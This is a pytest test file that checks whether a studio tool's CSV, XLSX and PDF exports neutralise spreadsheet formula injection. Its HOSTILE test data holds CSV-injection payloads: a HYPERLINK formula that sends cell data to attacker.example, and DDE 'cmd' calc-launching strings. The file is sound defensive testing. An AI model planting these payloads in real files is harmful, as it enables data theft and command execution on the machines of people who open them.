"""Exports a studio opens are safe to open: `statuses export` to CSV neutralises text that a spreadsheet would run
as a formula (OWASP "CSV Injection": a leading apostrophe, the field quoted), and the XLSX files of `export` and
`print` hold text cells, never formulas — checked with the csv module, openpyxl, calamine and LibreOffice."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from helpers.pdftext import pdf_text
from helpers.workbooks import LISTS, SESSION_HEADER, SETTINGS, STATUS_HEADER
from python_calamine import CalamineWorkbook

from sheetflow.library import statuses as status_list

# What a client, a colleague or a pasted list can leave in a status's cells; each one runs in Excel or LibreOffice
# when a CSV holds it raw.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
STATUSES = [
    STATUS_HEADER,
    ["", "Session Pending", -10, 0, "Yes", "", "Booking", "Maya", ""],
    *[["", text, 10 * (i + 2), 2, "", "", "Editing", "=1+1", ""] for i, text in enumerate(HOSTILE)],
    ["", "Order Delivered", 90, "", "", "Yes", "Delivery", "Maya", ""],
]
DESCRIPTIONS = ["Session Pending", *HOSTILE, "Order Delivered"]
SORT_ORDERS = [-10, 20, 30, 40, 50, 90]


def text_studio(path: Path) -> Path:
    """A studio workbook whose Statuses cells hold that text as text cells (as Excel keeps '=… typed with an
    apostrophe), written by xlsxwriter with every string kept a string."""
    sheets = {
        "Settings": SETTINGS,
        "Statuses": STATUSES,
        "Lists": LISTS,
        "Holidays": [["Date", "Name"]],
        "Sessions": [SESSION_HEADER],
    }
    options = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}
    workbook = xlsxwriter.Workbook(str(path), options)
    for name, rows in sheets.items():
        sheet = workbook.add_worksheet(name)
        for r, values in enumerate(rows):
            for c, value in enumerate(values):
                if value not in (None, ""):
                    sheet.write(r, c, value)
    workbook.close()
    return path


@pytest.fixture
def book(tmp_path: Path) -> Path:
    path = text_studio(tmp_path / "studio.xlsx")
    assert not sheet_formulas(path)  # the studio's own cells are text: only an export could turn them into formulas
    return path


def sheet_formulas(path: Path) -> list[str]:
    """The worksheet parts of an .xlsx that hold a formula (an <f> element)."""
    with zipfile.ZipFile(path) as package:
        return [
            name
            for name in package.namelist()
            if name.startswith("xl/worksheets/sheet") and (b"<f>" in package.read(name) or b"<f " in package.read(name))
        ]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


def test_csv_export_neutralises_formula_text_and_keeps_numbers(book, sheetflow, tmp_path):
    out = tmp_path / "list.csv"
    result = sheetflow("statuses", "export", book, "--out", out)
    assert result.exit_code == 0, result.output

    rows = read_csv(out)
    assert rows[0] == STATUS_HEADER[1:]
    assert [r[0] for r in rows[1:]] == [neutralised(d) for d in DESCRIPTIONS]
    assert [r[0] for r in rows[2:6]] == ["'" + text for text in HOSTILE]
    assert {r[6] for r in rows[2:6]} == {"'=1+1"}  # Default User: every text column, not only Description
    assert [r[1] for r in rows[1:]] == [str(n) for n in SORT_ORDERS]  # -10 is a number: no apostrophe

    raw = out.read_text(encoding="utf-8-sig").splitlines()
    assert raw[2].startswith('"\'=HYPERLINK(""http://attacker.example/')  # text quoted, its quotes doubled
    assert raw[1].startswith('"Session Pending",-10,0,"Yes"')  # numbers bare, so spreadsheets read numbers


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_csv_export_as_text_and_numbers(book, sheetflow, tmp_path):
    out = tmp_path / "list.csv"
    assert sheetflow("statuses", "export", book, "--out", out).exit_code == 0
    control = tmp_path / "control.csv"  # the same cell written raw, as the export used to: proof the check bites
    control.write_text('"Description","Sort Order"\r\n"=1+1",10\r\n', encoding="utf-8")

    opened = open_in_libreoffice([out, control], tmp_path)
    assert sheet_formulas(opened["control"]) == ["xl/worksheets/sheet1.xml"]
    assert sheet_formulas(opened["list"]) == []

    sheet = openpyxl.load_workbook(opened["list"]).active
    assert [c.value for c in sheet[1]] == STATUS_HEADER[1:]  # read as UTF-8: the byte-order mark is not text
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows] == [(neutralised(d), "s") for d in DESCRIPTIONS]
    assert [(r[1].value, r[1].data_type) for r in rows] == [(n, "n") for n in SORT_ORDERS]
    assert {r[6].value for r in rows[1:5]} == {"'=1+1"}
    calamine = CalamineWorkbook.from_path(str(opened["list"])).get_sheet_by_index(0).to_python()
    assert [r[0] for r in calamine[1:]] == [neutralised(d) for d in DESCRIPTIONS]


def open_in_libreoffice(files: list[Path], folder: Path) -> dict[str, Path]:
    """Each CSV opened by LibreOffice headless (comma-separated, UTF-8, as a studio's LibreOffice opens it) and
    saved as .xlsx, to read back what the spreadsheet made of every cell."""
    soffice = status_list.find_soffice()
    assert soffice is not None
    out = folder / "opened"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            "--norestore",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *map(str, files),
        ],
        capture_output=True,
        text=True,
        timeout=status_list.PDF_TIMEOUT,
        check=False,
    )
    found = {f.stem: out / f"{f.stem}.xlsx" for f in files}
    assert all(p.exists() for p in found.values()), done.stderr or done.stdout
    return found


def test_xlsx_export_writes_text_cells_never_formulas(book, sheetflow, tmp_path):
    out = tmp_path / "list.xlsx"
    assert sheetflow("statuses", "export", book, "--out", out).exit_code == 0
    assert_text_cells(out)


def test_print_ready_workbook_writes_text_cells_never_formulas(book, sheetflow, tmp_path):
    out = tmp_path / "print.xlsx"
    assert sheetflow("statuses", "print", book, "--out", out).exit_code == 0
    assert_text_cells(out)


def assert_text_cells(path: Path) -> None:
    """An exported workbook shows the text as typed (no apostrophe: an .xlsx text cell can't run), and its
    numbers stay numbers."""
    assert sheet_formulas(path) == []
    sheet = openpyxl.load_workbook(path)["Statuses"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows] == [(d, "s") for d in DESCRIPTIONS]
    assert [(r[1].value, r[1].data_type) for r in rows] == [(n, "n") for n in SORT_ORDERS]
    assert {(r[6].value, r[6].data_type) for r in rows[1:5]} == {("=1+1", "s")}
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Statuses").to_python()
    assert [r[0] for r in calamine[1:]] == DESCRIPTIONS
    assert [r[1] for r in calamine[1:]] == SORT_ORDERS


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_the_printed_pdf_shows_the_text_not_what_a_formula_would_make(book, sheetflow, tmp_path):
    out = tmp_path / "list.pdf"
    assert sheetflow("statuses", "print", book, "--out", out).exit_code == 0
    runs = pdf_text(out.read_bytes())  # one entry per text run, each cut at its column's edge
    assert any(run.startswith('=HYPERLINK("http://attacker.example/') for run in runs)
    assert set(HOSTILE[1:]) <= set(runs) and "=1+1" in runs


def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised(tmp_path):
    """The workbook reader trims a cell's edges, so a leading tab or CR reaches no export today; the CSV writer
    handles them anyway, as OWASP lists them."""
    listing = status_list.StatusList(
        "Test Studio",
        False,
        [
            {
                "Description": "\t=1+1",
                "Sort Order": 10,
                "Typical Duration": 2.5,
                "Initial": True,
                "Final": "No",
                "Stage": "\r=1+1",
                "Default User": "",
                "Inactive": None,
            },
        ],
    )
    out = tmp_path / "list.csv"
    status_list._write_csv(out, listing)
    (header, row) = read_csv(out)
    assert row == ["'\t=1+1", "10", "2.5", "True", "No", "'\r=1+1", "", ""]
